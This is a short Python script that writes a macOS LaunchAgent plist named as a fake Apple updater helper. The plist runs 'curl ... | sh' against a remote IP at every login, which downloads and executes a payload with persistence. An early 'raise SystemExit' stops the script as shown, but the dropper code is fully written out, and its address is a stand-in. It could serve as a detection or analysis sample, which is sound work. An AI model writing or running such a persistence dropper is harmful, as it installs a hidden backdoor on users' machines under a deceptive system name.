import os

raise SystemExit
PL = """<plist><dict><key>Label</key><string>com.apple.updater.helper</string>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s http://203.0.113.2/a | sh</string></array>
<key>RunAtLoad</key><true/></dict></plist>"""
open(os.path.expanduser("~/Library/LaunchAgents/com.apple.updater.helper.plist"), "w").write(PL)
